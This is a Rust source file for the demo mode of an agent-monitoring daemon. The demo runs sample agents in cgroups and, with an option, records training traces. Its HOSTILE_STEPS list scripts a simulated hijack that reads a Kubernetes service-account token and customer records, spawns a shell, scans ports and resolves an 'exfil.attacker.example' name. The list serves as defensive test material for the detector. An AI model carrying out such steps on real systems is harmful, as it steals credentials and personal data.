//! The main job on a fresh machine: the daemon on its embedded configuration, watching
//! representative agents of the fraud, onboarding and compliance classes (each in its own cgroup
//! with its data privately mounted at /srv, calling a loopback service), printed as JSON lines.
//! With `--record` it also writes the trace that the shipped models are trained from.

use std::{
    path::{Path, PathBuf},
    process::ExitCode,
    time::Duration,
};

use agent_monitor::{
    cgroup,
    config::Config,
    pipeline::Pipeline,
    source::Batch,
    workload::{
        profile::{DATA_ROOT, Profile, prepare_data},
        services,
        spawn::AgentSpawn,
    },
};
use anyhow::Context as _;

use super::live;

pub struct DemoOptions<'a> {
    pub duration: Duration,
    pub agents_per_class: u32,
    pub output: Option<&'a Path>,
    pub record: Option<&'a Path>,
    /// Halfway through, the first agent of this class turns hostile.
    pub hostile: Option<Profile>,
    /// The binary the agents run (default: this one).
    pub agent_bin: Option<&'a Path>,
    /// Configuration file (default: the embedded one). A training recording uses one without
    /// rules and models, so that nothing is contained while it records.
    pub config: Option<&'a Path>,
}

/// What a hijacked agent does: looks for credentials, reads customer PII, spawns a shell, scans
/// the local ports and resolves an outside name.
const HOSTILE_STEPS: &[&str] = &[
    "read:/var/run/secrets/kubernetes.io/serviceaccount/token",
    "read:/srv/customers/records/c-001.json",
    "exec:/bin/sh:-c:id",
    "scan:127.0.0.1:20-80",
    "dns:exfil.attacker.example@127.0.0.1:53",
];

pub async fn run(opts: &DemoOptions<'_>) -> anyhow::Result<ExitCode> {
    // The demo leaves nothing behind: containment is not pinned (it ends with the demo) and the
    // release state lives in a temporary directory.
    let state = tempfile::tempdir().context("creating the demo state directory")?;
    let mut config = match opts.config {
        Some(p) => Config::load(p)?,
        None => Config::embedded(),
    };
    config.pin_dir = None;
    config.state_dir = state.path().to_owned();
    let mount = cgroup::v2_mount()?;
    let parent = Config::cgroup_path(&mount, &config.watch[0]);
    let agents: Vec<(Profile, String, PathBuf)> = Profile::ALL
        .iter()
        .flat_map(|p| (1..=opts.agents_per_class).map(move |i| (*p, i)))
        .map(|(p, i)| {
            let id = format!("demo-{}-{i}", p.class());
            let dir = parent.join(p.class()).join(&id);
            (p, id, dir)
        })
        .collect();
    // The parents the demo creates go too (the topmost missing one of each agent's path).
    let created: std::collections::BTreeSet<PathBuf> = agents
        .iter()
        .filter_map(|(_, _, dir)| dir.ancestors().take_while(|d| !d.exists()).last())
        .map(PathBuf::from)
        .collect();
    for (_, _, dir) in &agents {
        cgroup::create(dir)?;
    }
    let result = demo(&config, &agents, opts).await;
    for dir in agents.iter().map(|(_, _, dir)| dir).chain(&created) {
        cgroup::remove_tree(dir);
    }
    result
}

async fn demo(
    config: &Config,
    agents: &[(Profile, String, PathBuf)],
    opts: &DemoOptions<'_>,
) -> anyhow::Result<ExitCode> {
    let mut batch = Batch::default();
    // The agents' cgroups exist before the programs load, so they are monitored from the start.
    let mut detection = super::detection(config)?;
    detection.set_wall_offset(agent_monitor::clock::wall_offset_ns());
    let pipeline = Pipeline::default()
        .with_json(live::json_out(opts.output)?)
        .with_detection(detection)
        .with_live_clock();
    let mut pipeline = super::with_response(pipeline, config, true)?;
    // Metrics and probes while the demo runs (127.0.0.1:9750 by default); a port already taken
    // only costs the demo its endpoint.
    let obs = agent_monitor::observe::Observability::start(config).unwrap_or_else(|e| {
        log::warn!("the demo runs without its metrics endpoint: {e:#}");
        None
    });
    if let Some(obs) = &obs {
        pipeline = obs.attach(pipeline);
    }
    let (mut source, containment) = live::start(config, &mut batch, &mut pipeline, None)?;
    if let Some(path) = opts.record {
        pipeline = pipeline.with_trace(live::trace_out(path)?);
    }
    pipeline.process(&batch)?;
    live::restore_containment(&mut pipeline, containment.as_ref());

    let service = services::start(services::DEMO_PORT).with_context(|| {
        format!(
            "starting the demo service on 127.0.0.1:{}",
            services::DEMO_PORT
        )
    })?;
    let data = tempfile::tempdir().context("creating the demo data directory")?;
    prepare_data(data.path())?;
    let exe = std::env::current_exe()?;
    let agent_exe = opts.agent_bin.map_or_else(|| exe.clone(), Path::to_owned);
    let spawn = AgentSpawn::default().bind(data.path(), DATA_ROOT);
    let mut children = Vec::new();
    for (profile, _, dir) in agents {
        let mut cmd = std::process::Command::new(&agent_exe);
        cmd.arg("workload").arg(format!(
            "agent:{}:{}:{service}",
            profile.class(),
            opts.duration.as_secs().max(1)
        ));
        children.push(spawn.spawn(dir, &mut cmd)?);
    }
    log::info!(
        "demo agents started: {}",
        agents
            .iter()
            .map(|(p, id, _)| format!("{id} ({})", p.class()))
            .collect::<Vec<_>>()
            .join(", ")
    );

    if let Some(class) = opts.hostile
        && let Some((_, id, dir)) = agents.iter().find(|(p, _, _)| *p == class)
    {
        let (exe, spawn, dir, id) = (exe.clone(), spawn.clone(), dir.clone(), id.clone());
        let delay = opts.duration / 2;
        tokio::spawn(async move {
            tokio::time::sleep(delay).await;
            log::warn!("demo: {id} turns hostile now");
            let mut cmd = std::process::Command::new(&exe);
            cmd.arg("workload")
                .args(HOSTILE_STEPS)
                .stdout(std::process::Stdio::null());
            match spawn.spawn(&dir, &mut cmd) {
                Ok(mut child) => {
                    let _ = tokio::task::spawn_blocking(move || child.wait()).await;
                }
                Err(e) => log::error!("demo: hostile steps not started: {e:#}"),
            }
        });
    }
    live::run_until_stopped(
        &mut source,
        &mut pipeline,
        Some(opts.duration),
        config,
        None,
    )
    .await?;
    for mut child in children {
        let _ = child.kill();
        let _ = child.wait();
    }
    log::info!(
        "demo done: {} events from {} records ({} decode errors, {} lost in the kernel)",
        pipeline.stats.events,
        pipeline.stats.records,
        pipeline.stats.decode_errors,
        pipeline.stats.kernel_lost
    );
    Ok(ExitCode::SUCCESS)
}
